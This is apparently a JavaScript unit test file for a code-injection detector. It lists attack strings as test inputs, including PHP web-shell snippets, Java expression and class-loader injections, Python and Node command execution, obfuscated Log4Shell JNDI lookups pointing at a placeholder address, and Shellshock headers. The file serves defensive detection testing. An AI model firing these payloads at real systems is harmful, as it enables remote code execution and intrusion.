// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and lookup syntax is what these values are about
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DETECTORS, detectJavaCode, detectJndiLookup, detectPhpCode, detectScriptCode, detectShellshock } from './code-injection.js';

const ctx = { location: 'query:q' };

describe('php-code', () => {
  for (const attack of [
    "<?php system($_GET['c']); ?>",
    '<?=`id`?>',
    ";system('id')",
    'eval($_POST[x])',
    "assert(base64_decode('c3lzdGVtKCdpZCcp'))",
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'expect://id',
    'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==',
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
    'x=$_SERVER["HTTP_HOST"]',
    'php://stdout',
    'compress.bzip2://file.bz2',
    'ssh2.exec://user:pw@203.0.113.5:22/usr/bin/id',
    'ssh2.shell://user:pw@203.0.113.5:22/xterm',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assert.ok(detectPhpCode(attack, ctx)));
  }
  for (const benign of [
    'the system (s) are fine',
    'include (optional) items',
    'eval(function(p,a,c,k,e,d){})',
    'data:image/png;base64,iVBORw0KGgo=',
    'lz77://some_file.lz',
    '<?xml version="1.0"?>',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectPhpCode(benign, ctx), undefined));
  }
});

describe('java-code', () => {
  for (const attack of [
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '%{(#_memberAccess["allowStaticMethodAccess"]=true)}',
    "${''.getClass().forName('java.lang.Runtime')}",
    '#{request.getClass().getClassLoader()}',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
    '@java.lang.Runtime@getRuntime().exec("id")',
    'org.apache.commons.collections.functors.InvokerTransformer',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assert.ok(detectJavaCode(attack, ctx)));
  }
  for (const benign of ['price ${total} now', '#{user.name}', 'the Java runtime is fast', 'class.name', '${a} and ${b}']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectJavaCode(benign, ctx), undefined));
  }
});

describe('script-code', () => {
  for (const attack of [
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process')",
    "__import__('os').system('id')",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "subprocess.Popen(['id'])",
    "os.popen('id').read()",
    'Process.spawn("id")',
    'Kernel.exec("id")',
    "IO.popen('id')",
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assert.ok(detectScriptCode(attack, ctx)));
  }
  for (const benign of ['macOS.system settings', '__init__ method', 'the process is simple', 'spawn a process', 'Kernel panic']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectScriptCode(benign, ctx), undefined));
  }
});

describe('jndi-lookup', () => {
  for (const attack of [
    '${jndi:ldap://203.0.113.5/a}',
    '${jndi:rmi://203.0.113.5/a}',
    '${${lower:j}ndi:${lower:l}dap://x/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}',
    '${${upper:j}ndi:dns://x}',
    'User-Agent: ${jNdI:ldap://x}',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assert.ok(detectJndiLookup(attack, ctx)));
  }
  for (const benign of ['${user.name}', 'jndi is a Java API', '${a:-b}', '${${x}}']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectJndiLookup(benign, ctx), undefined));
  }
  it('is bounded on deep nesting', { timeout: 5000 }, () => {
    assert.doesNotThrow(() => detectJndiLookup(`${'${'.repeat(5000)}x${'}'.repeat(5000)}`, ctx));
  });
});

describe('shellshock', () => {
  it('reports a Bash function definition at the start of a value', () => {
    assert.ok(detectShellshock('() { :;}; /bin/bash -c id', { location: 'header:user-agent' }));
    assert.ok(detectShellshock(' () { _; } >_[$($())] { id; }', { location: 'header:referer' }));
  });
  it('passes text with parentheses and braces elsewhere', () => {
    assert.equal(detectShellshock('f() { return 1 }', ctx), undefined);
    assert.equal(detectShellshock('(see below) {x}', ctx), undefined);
  });
  it('exports every detector by rule name', () => {
    assert.deepEqual(Object.keys(DETECTORS).sort(), ['java-code', 'jndi-lookup', 'php-code', 'script-code', 'shellshock']);
  });
});
